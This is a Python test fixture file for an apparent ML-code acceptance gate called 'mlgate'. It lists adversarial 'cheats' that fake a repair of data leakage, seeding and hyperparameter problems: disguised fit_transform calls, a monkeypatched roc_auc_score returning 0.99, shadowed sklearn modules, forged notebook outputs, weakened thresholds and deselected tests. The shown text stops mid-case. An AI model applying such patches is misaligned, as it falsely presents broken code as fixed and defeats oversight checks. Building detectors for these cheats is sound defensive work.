"""Cheats of a fourth round: projects of several files, training loops, gates, pins, notebooks with outputs."""

from mlgate.agent.acceptance import Reason as R
from tests.agent.adversarial.cases import Case
from tests.agent.adversarial.repairs import (
    CLEARS_GRADIENTS,
    CONFIGURED_SEED,
    MODEL_SEEDED_BY_OPTION,
    NO_MEDIAN,
    NO_OWN_SCALING,
    NO_RESAMPLING,
    NO_SCALED_FRAME,
    NO_SCALER,
    OWN_SCALING_AFTER_SPLIT,
    SPLIT_SEED,
    SPLIT_SEEDED_BY_OPTION,
)

FOURTH = [
    Case(
        "p leak: fit in train on frame before split via module function",
        "one file",
        "fit-before-split",
        {
            "src/churn/train.py": (
                NO_SCALED_FRAME,
                NO_SCALER,
                (
                    "    X, y = prepare(frame, config.target)\n",
                    "    X, y = prepare(frame, config.target)\n    X[X.columns] = (X - X.mean()) / X.std()\n",
                ),
            )
        },
        R.NOT_REPAIRED,
    ),
    Case(
        "p leak: new module with helper",
        "one file",
        "fit-before-split",
        {
            "src/churn/train.py": (
                (
                    "    X = pd.DataFrame(scaler.fit_transform(X), columns=X.columns, index=X.index)\n",
                    "    X = scaled(X)\n",
                ),
                NO_SCALER,
                ("from sklearn.preprocessing import StandardScaler", "from churn.scaling import scaled"),
            ),
            "src/churn/scaling.py": '"""Scaling."""\nfrom sklearn.preprocessing import StandardScaler\n\n\ndef scaled(X):\n    """Scale."""\n    scaler = StandardScaler()\n    X[X.columns] = scaler.fit_transform(X)\n    return X\n',
        },
        R.NOT_REPAIRED,
    ),
    Case(
        "p leak: moved to excluded/test file",
        "one file",
        "fit-before-split",
        {
            "src/churn/train.py": (
                (
                    "    X = pd.DataFrame(scaler.fit_transform(X), columns=X.columns, index=X.index)\n",
                    "    X = scaled(X)\n",
                ),
                NO_SCALER,
                ("from sklearn.preprocessing import StandardScaler", "from build.scaling import scaled"),
            ),
            "build/scaling.py": '"""Scaling."""\nfrom sklearn.preprocessing import StandardScaler\n\n\ndef scaled(X):\n    """Scale."""\n    scaler = StandardScaler()\n    X[X.columns] = scaler.fit_transform(X)\n    return X\n',
        },
        R.NOT_REPAIRED,
    ),
    Case(
        "p leak: getattr by string concat",
        "one file",
        "fit-before-split",
        {"src/churn/train.py": (("scaler.fit_transform(X)", 'getattr(scaler, "fit_" + "transform")(X)'),)},
        R.NOT_REPAIRED,
    ),
    Case(
        "p leak: operator.methodcaller",
        "one file",
        "fit-before-split",
        {
            "src/churn/train.py": (
                ("scaler.fit_transform(X)", 'methodcaller("fit_transform", X)(scaler)'),
                ("import pandas as pd", "from operator import methodcaller\n\nimport pandas as pd"),
            )
        },
        R.NOT_REPAIRED,
    ),
    Case(
        "p leak: via __dict__ / type(scaler).fit_transform",
        "one file",
        "fit-before-split",
        {"src/churn/train.py": (("scaler.fit_transform(X)", "type(scaler).fit_transform(scaler, X)"),)},
        R.NOT_REPAIRED,
    ),
    Case(
        "p leak: functools.partial",
        "one file",
        "fit-before-split",
        {
            "src/churn/train.py": (
                ("scaler.fit_transform(X)", "partial(StandardScaler.fit_transform, scaler)(X)"),
                ("import pandas as pd", "from functools import partial\n\nimport pandas as pd"),
            )
        },
        R.NOT_REPAIRED,
    ),
    Case(
        "p leak: importlib",
        "one file",
        "fit-before-split",
        {
            "src/churn/train.py": (
                (
                    "    scaler = StandardScaler()\n",
                    '    scaler = importlib.import_module("sklearn.preprocessing").StandardScaler()\n',
                ),
                ("import pandas as pd", "import importlib\n\nimport pandas as pd"),
            )
        },
        R.STILL_THERE,
    ),
    Case(
        "p leak: subclass renaming",
        "one file",
        "fit-before-split",
        {
            "src/churn/train.py": (
                (
                    "def prepare",
                    'class Normaliser(StandardScaler):\n    """Normalises."""\n\n    def normalise(self, X):\n        """Normalise."""\n        return self.fit_transform(X)\n\n\ndef prepare',
                ),
                ("scaler = StandardScaler()", "scaler = Normaliser()"),
                ("scaler.fit_transform(X)", "scaler.normalise(X)"),
            )
        },
        R.NOT_REPAIRED,
    ),
    Case(
        "p leak: prepare called on train and test separately (fits twice)",
        "one file",
        "fit-before-split",
        {
            "src/churn/train.py": (
                (
                    "    X, y = prepare(frame, config.target)\n    X_train, X_test, y_train, y_test = train_test_split(X, y, test_size=config.test_size, stratify=y)\n",
                    "    train_rows, test_rows = train_test_split(frame, test_size=config.test_size, stratify=frame[config.target], random_state=config.seed)\n    X_train, y_train = prepare(train_rows, config.target)\n    X_test, y_test = prepare(test_rows, config.target)\n",
                ),
            )
        },
        R.NOT_REPAIRED,
    ),
    Case(
        "p leak: fits on test in train too",
        "one file",
        "fit-before-split",
        {
            "src/churn/train.py": (
                NO_SCALED_FRAME,
                NO_SCALER,
                ("from sklearn.preprocessing import StandardScaler\n", ""),
                (
                    "test_size=config.test_size, stratify=y)",
                    "test_size=config.test_size, stratify=y)\n    scaler = StandardScaler()\n    scaler.fit(pd.concat([X_train, X_test]))\n    X_train = scaler.transform(X_train)\n    X_test = scaler.transform(X_test)",
                ),
                ("from churn.config", "from sklearn.preprocessing import StandardScaler\n\nfrom churn.config"),
            )
        },
        R.STILL_THERE,
    ),
    Case(
        "p leak: fit test part via sliced array",
        "one file",
        "fit-before-split",
        {
            "src/churn/train.py": (
                NO_SCALED_FRAME,
                NO_SCALER,
                ("from sklearn.preprocessing import StandardScaler\n", ""),
                (
                    "test_size=config.test_size, stratify=y)",
                    "test_size=config.test_size, stratify=y)\n    scaler = StandardScaler().fit(X)\n    X_train = scaler.transform(X_train)\n    X_test = scaler.transform(X_test)",
                ),
                ("from churn.config", "from sklearn.preprocessing import StandardScaler\n\nfrom churn.config"),
            )
        },
        R.STILL_THERE,
    ),
    Case(
        "p leak: scaler removed, logger line faked",
        "one file",
        "fit-before-split",
        {
            "src/churn/train.py": (
                NO_SCALED_FRAME,
                NO_SCALER,
                ("from sklearn.preprocessing import StandardScaler\n", ""),
            )
        },
        R.NOT_REPAIRED,
    ),
    Case(
        "p leak: copy as pass-through",
        "one file",
        "fit-before-split",
        {
            "src/churn/train.py": (
                ("scaler.fit_transform(X)", "scaler.fit(keep(X)).transform(X)"),
                ("def prepare", 'def keep(value):\n    """Hand on."""\n    return value\n\n\ndef prepare'),
            )
        },
        R.STILL_THERE,
    ),
    Case(
        "p leak: cached in a joblib file",
        "one file",
        "fit-before-split",
        {
            "src/churn/train.py": (
                (
                    "    X = pd.DataFrame(scaler.fit_transform(X), columns=X.columns, index=X.index)\n",
                    '    scaler = joblib.load("scaler.joblib")\n    X[X.columns] = scaler.transform(X)\n',
                ),
                NO_SCALER,
                ("import pandas as pd", "import joblib\nimport pandas as pd"),
            )
        },
        R.NOT_REPAIRED,
    ),
    Case(
        "p leak: test rows through np.vstack inside fit",
        "one file",
        "fit-before-split",
        {
            "src/churn/train.py": (
                NO_SCALED_FRAME,
                NO_SCALER,
                ("from sklearn.preprocessing import StandardScaler\n", ""),
                (
                    "test_size=config.test_size, stratify=y)",
                    "test_size=config.test_size, stratify=y)\n    scaler = StandardScaler()\n    for part in (X_test, X_train):\n        scaler.partial_fit(part)\n    X_train = scaler.transform(X_train)\n    X_test = scaler.transform(X_test)",
                ),
                ("from churn.config", "from sklearn.preprocessing import StandardScaler\n\nfrom churn.config"),
            )
        },
        R.NOT_REPAIRED,
    ),
    Case(
        "p leak: eval on validation=train rename",
        "one file",
        "fit-before-split",
        {
            "src/churn/train.py": (
                NO_SCALED_FRAME,
                NO_SCALER,
                ("from sklearn.preprocessing import StandardScaler\n", ""),
                (
                    "test_size=config.test_size, stratify=y)",
                    "test_size=config.test_size, stratify=y)\n    scaler = StandardScaler()\n    X_train = scaler.fit_transform(X_train)\n    X_test, y_test = X_train[-100:], y_train[-100:]",
                ),
                ("from churn.config", "from sklearn.preprocessing import StandardScaler\n\nfrom churn.config"),
            )
        },
        R.NOT_REPAIRED,
    ),
    Case(
        "p seed: config seed None",
        "project",
        "missing-random-state",
        {
            "src/churn/train.py": (SPLIT_SEED,),
            "src/churn/config.py": (
                ("    seed: int = 42\n", "    seed: int = 42\n    split_seed: int | None = None\n"),
            ),
        },
        R.NOT_REPAIRED,
    ),
    Case(
        "p seed: config field from time",
        "project",
        "missing-random-state",
        {
            "src/churn/train.py": (SPLIT_SEED,),
            "src/churn/config.py": (
                (
                    "    seed: int = 42\n",
                    "    seed: int = 42\n    split_seed: int = field(default_factory=lambda: int(time.time()))\n",
                ),
                ("from dataclasses import dataclass", "import time\nfrom dataclasses import dataclass, field"),
            ),
        },
        R.NOT_REPAIRED,
    ),
    Case(
        "p seed: config seed property random",
        "project",
        "missing-random-state",
        {
            "src/churn/train.py": (SPLIT_SEED,),
            "src/churn/config.py": (
                (
                    "    seed: int = 42\n",
                    '    seed: int = 42\n\n    @property\n    def split_seed(self) -> int:\n        """Seed of the split."""\n        return int.from_bytes(os.urandom(4), "big")\n',
                ),
                ("from dataclasses", "import os\nfrom dataclasses"),
            ),
        },
        R.NOT_REPAIRED,
    ),
    Case(
        "p seed: threshold weakened",
        "project",
        "missing-random-state",
        {
            "src/churn/train.py": (
                CONFIGURED_SEED,
                ("MIN_AUC = 0.75", "MIN_AUC = 0.5"),
            )
        },
        R.ASSERTION_LOST,
    ),
    Case(
        "p seed: comparison flipped",
        "project",
        "missing-random-state",
        {
            "src/churn/train.py": (
                CONFIGURED_SEED,
                ('if metrics["auc"] < MIN_AUC:', 'if metrics["auc"] > MIN_AUC:'),
            )
        },
        R.ASSERTION_LOST,
    ),
    Case(
        "p seed: metric of train in dict",
        "project",
        "missing-random-state",
        {
            "src/churn/train.py": (
                CONFIGURED_SEED,
                ("roc_auc_score(y_test, probabilities)", "roc_auc_score(y_train, model.predict_proba(X_train)[:, 1])"),
            )
        },
        R.RESULT_CHANGED,
    ),
    Case(
        "p seed: 1 - auc",
        "project",
        "missing-random-state",
        {
            "src/churn/train.py": (
                CONFIGURED_SEED,
                (
                    '"auc": roc_auc_score(y_test, probabilities)',
                    '"auc": max(roc_auc_score(y_test, probabilities), 1 - roc_auc_score(y_test, probabilities))',
                ),
            )
        },
        R.RESULT_CHANGED,
    ),
    Case(
        "p seed: metric deleted from dict",
        "project",
        "missing-random-state",
        {
            "src/churn/train.py": (
                CONFIGURED_SEED,
                ('        "f1": f1_score(y_test, probabilities > 0.5),\n', ""),
            )
        },
        R.CALL_LOST,
    ),
    Case(
        "p seed: raise to return",
        "project",
        "missing-random-state",
        {
            "src/churn/train.py": (
                CONFIGURED_SEED,
                (
                    "        raise ValueError(f\"auc is {metrics['auc']:.3f}, below {MIN_AUC}\")",
                    '        logger.warning("auc is low")',
                ),
            )
        },
        R.ASSERTION_LOST,
    ),
    Case(
        "p seed: requirement swapped",
        "project",
        "missing-random-state",
        {
            "src/churn/train.py": (CONFIGURED_SEED,),
            "pyproject.toml": (('"joblib==1.4.2"', '"joblib-ng==1.4.2"'),),
        },
        R.NEW_DIAGNOSTIC,
    ),
    Case(
        "p seed: pin loosened",
        "project",
        "missing-random-state",
        {
            "src/churn/train.py": (CONFIGURED_SEED,),
            "pyproject.toml": (('"pandas==2.2.3"', '"pandas>=2.2.3"'),),
        },
        R.DEPENDENCY_CHANGED,
    ),
    Case(
        "p seed: dependency added by url",
        "project",
        "missing-random-state",
        {
            "src/churn/train.py": (CONFIGURED_SEED,),
            "pyproject.toml": (('"joblib==1.4.2"]', '"joblib==1.4.2", "seedlib @ git+https://example.com/seedlib"]'),),
        },
        R.DEPENDENCY_CHANGED,
    ),
    Case(
        "p seed: gitattributes",
        "project",
        "missing-random-state",
        {
            "src/churn/train.py": (CONFIGURED_SEED,),
            ".gitattributes": "*.py linguist-generated=true -diff\n",
        },
        R.CONFIGURATION_CHANGED,
    ),
    Case(
        "p seed: tox.ini",
        "project",
        "missing-random-state",
        {
            "src/churn/train.py": (CONFIGURED_SEED,),
            "tox.ini": "[pytest]\naddopts = --deselect tests\n",
        },
        R.CONFIGURATION_CHANGED,
    ),
    Case(
        "p seed: __init__ sets hook",
        "project",
        "missing-random-state",
        {
            "src/churn/train.py": (CONFIGURED_SEED,),
            "src/churn/__init__.py": "import sklearn.metrics\n\nsklearn.metrics.roc_auc_score = lambda *a, **k: 0.99\n",
        },
        R.MONKEYPATCH,
    ),
    Case(
        "p seed: sklearn package in src",
        "project",
        "missing-random-state",
        {
            "src/churn/train.py": (CONFIGURED_SEED,),
            "src/sklearn/__init__.py": "",
            "src/sklearn/metrics.py": "def roc_auc_score(a, b):\n    return 0.9\n",
        },
        R.MODULE_SHADOWED,
    ),
    Case(
        "p seed: pandas.py at root",
        "project",
        "missing-random-state",
        {
            "src/churn/train.py": (CONFIGURED_SEED,),
            "pandas.py": "read_csv = None\n",
        },
        R.MODULE_SHADOWED,
    ),
    Case(
        "p seed: pyi stub",
        "project",
        "missing-random-state",
        {
            "src/churn/train.py": (CONFIGURED_SEED,),
            "src/churn/train.pyi": "def train(config): ...\n",
        },
        R.MODULE_SHADOWED,
    ),
    Case(
        "p num: config other value in yaml",
        "project",
        "hardcoded-hyperparameter",
        {
            "src/churn/train.py": (
                (
                    "n_estimators=400, max_depth=12",
                    'n_estimators=PARAMETERS["n_estimators"], max_depth=PARAMETERS["max_depth"]',
                ),
                (
                    "MIN_AUC = 0.75",
                    'MIN_AUC = 0.75\nPARAMETERS = yaml.safe_load(Path("configs/default.yaml").read_text())["model"]',
                ),
                ("import joblib", "from pathlib import Path\n\nimport joblib"),
                ("import pandas as pd\n", "import pandas as pd\nimport yaml\n"),
            ),
            "configs/default.yaml": (("n_estimators: 400", "n_estimators: 40\n  max_depth: 12"),),
        },
        R.NOT_REPAIRED,
    ),
    Case(
        "p num: dict splat inline",
        "project",
        "hardcoded-hyperparameter",
        {"src/churn/train.py": (("n_estimators=400, max_depth=12", '**{"n_estimators": 400, "max_depth": 12}'),)},
        R.NOT_REPAIRED,
    ),
    Case(
        "p num: set_params afterwards other",
        "project",
        "hardcoded-hyperparameter",
        {
            "src/churn/train.py": (
                ("n_estimators=400, max_depth=12", "n_estimators=TREES, max_depth=DEPTH"),
                ("MIN_AUC = 0.75", "MIN_AUC = 0.75\nTREES = 400\nDEPTH = 12"),
                ("    model.fit(X_train", "    model.set_params(max_depth=2)\n    model.fit(X_train"),
            )
        },
        R.NOT_REPAIRED,
    ),
    Case(
        "p num: constant rebound",
        "project",
        "hardcoded-hyperparameter",
        {
            "src/churn/train.py": (
                ("n_estimators=400, max_depth=12", "n_estimators=TREES, max_depth=DEPTH"),
                ("MIN_AUC = 0.75", "MIN_AUC = 0.75\nTREES = 400\nDEPTH = 12\nDEPTH -= 10"),
            )
        },
        R.NOT_REPAIRED,
    ),
    Case(
        "t leak: numpy zscore",
        "titanic",
        "fit-before-split",
        {
            "titanic.ipynb": (
                (
                    'imputer = SimpleImputer(strategy="median")\nX_imp = imputer.fit_transform(X)\nscaler = StandardScaler()\nX_scaled = scaler.fit_transform(X_imp)',
                    "filled = np.nan_to_num(X.to_numpy(dtype=float), nan=np.nanmedian(X))\nX_scaled = (filled - filled.mean(axis=0)) / filled.std(axis=0)",
                ),
            )
        },
        R.NOT_REPAIRED,
    ),
    Case(
        "t leak: cells to raw",
        "titanic",
        "fit-before-split",
        {
            "titanic.ipynb": (
                (
                    'json:"cell_type": "code",\n   "execution_count": 3,\n   "id": "c04"',
                    'json:"cell_type": "raw",\n   "id": "c04"',
                ),
            )
        },
        R.NOT_REPAIRED,
    ),
    Case(
        "t leak: %run",
        "titanic",
        "fit-before-split",
        {
            "titanic.ipynb": (
                (
                    'imputer = SimpleImputer(strategy="median")\nX_imp = imputer.fit_transform(X)\nscaler = StandardScaler()\nX_scaled = scaler.fit_transform(X_imp)',
                    "%run prepare.py",
                ),
            ),
            "prepare.py": "from sklearn.preprocessing import StandardScaler\nX_scaled = StandardScaler().fit_transform(X)\n",
        },
        R.NOT_REPAIRED,
    ),
    Case(
        "t leak: get_ipython().run_cell",
        "titanic",
        "fit-before-split",
        {
            "titanic.ipynb": (
                (
                    "X_scaled = scaler.fit_transform(X_imp)",
                    'get_ipython().run_cell("X_scaled = scaler.fit_transform(X_imp)")',
                ),
            )
        },
        R.NOT_REPAIRED,
    ),
    Case(
        "t seed: outputs forged",
        "titanic",
        "missing-random-state",
        {
            "titanic.ipynb": (
                ("test_size=0.25)", "test_size=0.25, random_state=0)"),
                ("learning_rate=0.08)", "learning_rate=0.08, random_state=0)"),
                ("json:auc 0.88", "json:auc 0.98"),
            )
        },
        R.BYTES_CHANGED,
    ),
    Case(
        "t seed: kernel metadata changed",
        "titanic",
        "missing-random-state",
        {
            "titanic.ipynb": (
                ("test_size=0.25)", "test_size=0.25, random_state=0)"),
                ("learning_rate=0.08)", "learning_rate=0.08, random_state=0)"),
                ('json:"language": "python"', 'json:"language": "R"'),
            )
        },
        R.BYTES_CHANGED,
    ),
    Case(
        "t seed: cell metadata mlgate",
        "titanic",
        "missing-random-state",
        {
            "titanic.ipynb": (
                ("test_size=0.25)", "test_size=0.25, random_state=0)"),
                ("learning_rate=0.08)", "learning_rate=0.08, random_state=0)"),
                (
                    'json:"id": "c06",\n   "metadata": {}',
                    'json:"id": "c06",\n   "metadata": {"mlgate": {"ignore": ["MLG301"]}}',
                ),
            )
        },
        R.NEW_SUPPRESSION,
    ),
    Case(
        "t seed: seed None in later cell",
        "titanic",
        "missing-random-state",
        {
            "titanic.ipynb": (
                ("test_size=0.25)", "test_size=0.25, random_state=SEED)"),
                ("learning_rate=0.08)", "learning_rate=0.08, random_state=SEED)"),
                ("import numpy as np", "import numpy as np\nSEED = 0"),
                ("df.head()", "df.head()\nSEED = None"),
            )
        },
        R.NOT_REPAIRED,
    ),
    Case(
        "t seed: best of seeds scored",
        "titanic",
        "missing-random-state",
        {
            "titanic.ipynb": (
                (
                    "X_train, X_test, y_train, y_test = train_test_split(X_scaled, y, test_size=0.25)",
                    "def quality(seed):\n    a, b, c, d = train_test_split(X_scaled, y, test_size=0.25, random_state=seed)\n    return GradientBoostingClassifier(n_estimators=150, learning_rate=0.08, random_state=0).fit(a, c).score(b, d)\n\nbest = max(range(20), key=quality)\nX_train, X_test, y_train, y_test = train_test_split(X_scaled, y, test_size=0.25, random_state=best)",
                ),
                (
                    "model = GradientBoostingClassifier(n_estimators=150, learning_rate=0.08)",
                    "model = GradientBoostingClassifier(n_estimators=150, learning_rate=0.08, random_state=0)",
                ),
            )
        },
        R.NOT_REPAIRED,
    ),
    Case(
        "c grads: zero_grad between backward and step",
        "cnn",
        "gradients-not-cleared",
        {"digits.ipynb": (("        loss.backward()", "        loss.backward()\n        optimizer.zero_grad()"),)},
        R.NOT_REPAIRED,
    ),
    Case(
        "c grads: other optimizer cleared",
        "cnn",
        "gradients-not-cleared",
        {
            "digits.ipynb": (
                (
                    "        output = model(images)\n        loss",
                    "        other.zero_grad()\n        output = model(images)\n        loss",
                ),
                ("losses = []", "losses = []\nother = optim.SGD([torch.zeros(1, requires_grad=True)], lr=0.1)"),
            )
        },
        R.NOT_REPAIRED,
    ),
    Case(
        "c grads: conditional",
        "cnn",
        "gradients-not-cleared",
        {
            "digits.ipynb": (
                (
                    "        output = model(images)\n        loss",
                    "        if epoch == 0:\n            optimizer.zero_grad()\n        output = model(images)\n        loss",
                ),
            )
        },
        R.NOT_REPAIRED,
    ),
    Case(
        "c grads: backward dropped",
        "cnn",
        "gradients-not-cleared",
        {"digits.ipynb": (("        loss.backward()\n", "        optimizer.zero_grad()\n"),)},
        R.CALL_LOST,
    ),
    Case(
        "c grads: loop broken",
        "cnn",
        "gradients-not-cleared",
        {
            "digits.ipynb": (
                CLEARS_GRADIENTS,
                ("        running += loss\n", "        running += loss\n        break\n"),
            )
        },
        R.ROWS_LOST,
    ),
    Case(
        "c grads: fewer batches",
        "cnn",
        "gradients-not-cleared",
        {
            "digits.ipynb": (
                CLEARS_GRADIENTS,
                ("for images, labels in train_loader:", "for images, labels in list(train_loader)[:3]:"),
            )
        },
        R.ROWS_LOST,
    ),
    Case(
        "c grads: islice",
        "cnn",
        "gradients-not-cleared",
        {
            "digits.ipynb": (
                CLEARS_GRADIENTS,
                ("for images, labels in train_loader:", "for images, labels in islice(train_loader, 10):"),
                ("import torch\n", "import torch\nfrom itertools import islice\n"),
            )
        },
        R.ROWS_LOST,
    ),
    Case(
        "x stat: constant from nowhere",
        "xgb",
        "full-data-statistic",
        {"train.py": (('frame["income"].median()', "41250.0"),)},
        R.CALL_LOST,
    ),
    Case(
        "x stat: quantile",
        "xgb",
        "full-data-statistic",
        {"train.py": (('frame["income"].median()', 'frame["income"].quantile(0.5)'),)},
        R.STILL_THERE,
    ),
    Case(
        "x stat: sorted middle",
        "xgb",
        "full-data-statistic",
        {
            "train.py": (
                (
                    'frame["income"].fillna(frame["income"].median())',
                    'frame["income"].fillna(sorted(frame["income"].dropna())[len(frame) // 2])',
                ),
            )
        },
        R.CALL_LOST,
    ),
    Case(
        "x stat: column dropped",
        "xgb",
        "full-data-statistic",
        {
            "train.py": (
                (
                    '    frame["income"] = frame["income"].fillna(frame["income"].median())\n',
                    '    frame = frame.drop(columns=["income"])\n',
                ),
            )
        },
        R.CALL_LOST,
    ),
    Case(
        "x stat: removed",
        "xgb",
        "full-data-statistic",
        {"train.py": (NO_MEDIAN,)},
        R.CALL_LOST,
    ),
    Case(
        "x stat: ffill",
        "xgb",
        "full-data-statistic",
        {"train.py": (('frame["income"].fillna(frame["income"].median())', 'frame["income"].ffill()'),)},
        R.CALL_LOST,
    ),
    Case(
        "x stat: only test filled with test",
        "xgb",
        "full-data-statistic",
        {
            "train.py": (
                NO_MEDIAN,
                (
                    "test_size=0.3)",
                    'test_size=0.3)\n    X_train["income"] = X_train["income"].fillna(X_train["income"].median())\n    X_test["income"] = X_test["income"].fillna(X_test["income"].median())',
                ),
            )
        },
        R.NOT_REPAIRED,
    ),
    Case(
        "x seed: argparse default None",
        "xgb",
        "missing-random-state",
        {
            "train.py": (
                ("test_size=0.3)", "test_size=0.3, random_state=args.split_seed)"),
                MODEL_SEEDED_BY_OPTION,
                (
                    "    return parser",
                    '    parser.add_argument("--split-seed", type=int, default=None)\n    return parser',
                ),
            )
        },
        R.NOT_REPAIRED,
    ),
    Case(
        "x seed: threshold tuned",
        "xgb",
        "missing-random-state",
        {
            "train.py": (
                SPLIT_SEEDED_BY_OPTION,
                MODEL_SEEDED_BY_OPTION,
                ("probabilities > 0.4", "probabilities > 0.35"),
            )
        },
        R.RESULT_CHANGED,
    ),
    Case(
        "x seed: logged metric renamed",
        "xgb",
        "missing-random-state",
        {
            "train.py": (
                SPLIT_SEEDED_BY_OPTION,
                MODEL_SEEDED_BY_OPTION,
                (
                    'log_metric("auc", roc_auc_score(y_test, probabilities))',
                    'log_metric("auc", recall_score(y_test, predicted))',
                ),
            )
        },
        R.CALL_LOST,
    ),
    Case(
        "x seed: logged metric times",
        "xgb",
        "missing-random-state",
        {
            "train.py": (
                SPLIT_SEEDED_BY_OPTION,
                MODEL_SEEDED_BY_OPTION,
                ("roc_auc_score(y_test, probabilities))", "round(roc_auc_score(y_test, probabilities) + 0.04, 2))"),
            )
        },
        R.RESULT_CHANGED,
    ),
    Case(
        "x num: argparse swapped defaults",
        "xgb",
        "hardcoded-hyperparameter",
        {
            "train.py": (
                ("n_estimators=600", "n_estimators=args.depth"),
                (
                    "max_depth=6, learning_rate=0.03, subsample=0.8",
                    "max_depth=args.trees, learning_rate=args.rate, subsample=args.subsample",
                ),
                (
                    "    return parser",
                    '    parser.add_argument("--trees", type=int, default=600)\n    parser.add_argument("--depth", type=int, default=6)\n    parser.add_argument("--rate", type=float, default=0.03)\n    parser.add_argument("--subsample", type=float, default=0.8)\n    return parser',
                ),
            )
        },
        R.NOT_REPAIRED,
    ),
    Case(
        "x params: logged empty",
        "xgb",
        "params-not-logged",
        {
            "train.py": (
                (
                    "        model.fit(X_train, y_train)",
                    "        mlflow.log_params({})\n        model.fit(X_train, y_train)",
                ),
            )
        },
        R.NOT_REPAIRED,
    ),
    Case(
        "x params: constant lie",
        "xgb",
        "params-not-logged",
        {
            "train.py": (
                (
                    "        model.fit(X_train, y_train)",
                    '        mlflow.log_params({"n_estimators": 1})\n        model.fit(X_train, y_train)',
                ),
            )
        },
        R.NOT_REPAIRED,
    ),
    Case(
        "s: manual correlation",
        "select",
        "cv-outside-pipeline",
        {
            "genes.py": (
                (
                    "selector = SelectKBest(f_classif, k=50)\nX_best = selector.fit_transform(X, y)",
                    "order = np.argsort([-abs(np.corrcoef(column, y)[0, 1]) for column in X.T])\nX_best = X[:, order[:50]]",
                ),
                ("from sklearn.feature_selection import SelectKBest, f_classif\n", ""),
            )
        },
        R.NOT_REPAIRED,
    ),
    Case(
        "s: get_support mask",
        "select",
        "cv-outside-pipeline",
        {
            "genes.py": (
                (
                    "X_best = selector.fit_transform(X, y)",
                    "mask = selector.fit(X, y).get_support()\nX_best = X.T[mask].T",
                ),
            )
        },
        R.STILL_THERE,
    ),
    Case(
        "s: reported on mean only",
        "select",
        "cv-outside-pipeline",
        {
            "genes.py": (
                ("X_best = selector.fit_transform(X, y)\n", ""),
                (
                    "LogisticRegression(max_iter=2000), X_best",
                    "make_pipeline(selector, LogisticRegression(max_iter=2000)), X",
                ),
                (
                    "StratifiedKFold, cross_val_score",
                    "StratifiedKFold, cross_val_score\nfrom sklearn.pipeline import make_pipeline",
                ),
                ("print(scores.mean(), scores.std())", "print(scores.max(), scores.std())"),
            )
        },
        R.CALL_LOST,
    ),
    Case(
        "m: smote own oversampling",
        "smote",
        "resample-before-split",
        {
            "fraud.py": (
                (
                    "features_res, target_res = SMOTE(random_state=0).fit_resample(features, target)",
                    'minority = transactions[target == 1]\ntransactions = pd.concat([transactions, minority, minority])\nfeatures_res, target_res = transactions.drop(columns=["fraud"]), transactions["fraud"]',
                ),
                ("from imblearn.over_sampling import SMOTE\n", ""),
            )
        },
        R.NEW_DIAGNOSTIC,
    ),
    Case(
        "m: smote on both parts",
        "smote",
        "resample-before-split",
        {
            "fraud.py": (
                NO_RESAMPLING,
                (
                    "train_test_split(features_res, target_res, test_size=0.2, random_state=0)",
                    "train_test_split(features, target, test_size=0.2, random_state=0)\nX_train, y_train = SMOTE(random_state=0).fit_resample(X_train, y_train)\nX_test, y_test = SMOTE(random_state=0).fit_resample(X_test, y_test)",
                ),
            )
        },
        R.NOT_REPAIRED,
    ),
    Case(
        "m: np.repeat",
        "smote",
        "resample-before-split",
        {
            "fraud.py": (
                (
                    "features_res, target_res = SMOTE(random_state=0).fit_resample(features, target)",
                    "times = target.map({0: 1, 1: 9})\nfeatures_res, target_res = features.loc[features.index.repeat(times)], target.loc[target.index.repeat(times)]",
                ),
                ("from imblearn.over_sampling import SMOTE\n", ""),
            )
        },
        R.STILL_THERE,
    ),
    Case(
        "o leak: property",
        "oop",
        "fit-before-split",
        {
            "trainer.py": (
                ("X = self.scaler.fit_transform(X)", "X = self.scaled(X)"),
                (
                    "    def run(self)",
                    '    def scaled(self, X: np.ndarray) -> np.ndarray:\n        """Scale."""\n        return (X - X.min(axis=0)) / (X.max(axis=0) - X.min(axis=0))\n\n    def run(self)',
                ),
            )
        },
        R.NOT_REPAIRED,
    ),
    Case(
        "o leak: fit in init",
        "oop",
        "fit-before-split",
        {
            "trainer.py": (
                ("        X = self.scaler.fit_transform(X)\n", "        X = self.scaler.transform(X)\n"),
                ("self.scaler = MinMaxScaler()", "self.scaler = MinMaxScaler().fit(self.load()[0])"),
            )
        },
        R.STILL_THERE,
    ),
    Case(
        "o leak: call dunder",
        "oop",
        "fit-before-split",
        {
            "trainer.py": (
                ("X = self.scaler.fit_transform(X)", "X = self(X)"),
                (
                    "    def run(self)",
                    '    def __call__(self, X: np.ndarray) -> np.ndarray:\n        """Scale."""\n        return self.scaler.fit_transform(X)\n\n    def run(self)',
                ),
            )
        },
        R.STILL_THERE,
    ),
    Case(
        "o leak: test scaled by own scaler",
        "oop",
        "fit-before-split",
        {
            "trainer.py": (
                NO_OWN_SCALING,
                (
                    "test_size=0.2)",
                    "test_size=0.2)\n        X_train = self.scaler.fit_transform(X_train)\n        X_test = MinMaxScaler().fit_transform(X_test)",
                ),
            )
        },
        R.NOT_REPAIRED,
    ),
    Case(
        "o leak: model refit on all",
        "oop",
        "fit-before-split",
        {
            "trainer.py": (
                NO_OWN_SCALING,
                OWN_SCALING_AFTER_SPLIT,
                (
                    "        self.model.fit(X_train, y_train)\n",
                    "        self.model.fit(np.vstack([X_train, X_test]), np.concatenate([y_train, y_test]))\n",
                ),
            )
        },
        R.NOT_REPAIRED,
    ),
    Case(
        "o leak: rmse to mse of train",
        "oop",
        "fit-before-split",
        {
            "trainer.py": (
                NO_OWN_SCALING,
                OWN_SCALING_AFTER_SPLIT,
                ("float(np.sqrt(error))", "float(error)"),
            )
        },
        R.CALL_LOST,
    ),
    Case(
        "o leak: scaler not saved",
        "oop",
        "fit-before-split",
        {
            "trainer.py": (
                NO_OWN_SCALING,
                (
                    "test_size=0.2)",
                    "test_size=0.2)\n        scaler = MinMaxScaler()\n        X_train = scaler.fit_transform(X_train)\n        X_test = scaler.transform(X_test)",
                ),
            )
        },
        R.CALL_LOST,
    ),
    Case(
        "o leak: na check moved",
        "oop",
        "fit-before-split",
        {
            "trainer.py": (
                NO_OWN_SCALING,
                OWN_SCALING_AFTER_SPLIT,
                ("frame.isna().any().any()", "frame.isna().all().all()"),
            )
        },
        R.ASSERTION_LOST,
    ),
    Case(
        "o seed: attribute None",
        "oop",
        "missing-random-state",
        {
            "trainer.py": (
                ("test_size=0.2)", "test_size=0.2, random_state=self.seed)"),
                ("max_iter=300)", "max_iter=300, random_state=0)"),
                ("        self.hidden = hidden\n", "        self.hidden = hidden\n        self.seed = None\n"),
            )
        },
        R.NOT_REPAIRED,
    ),
    Case(
        "o seed: class attribute drawn",
        "oop",
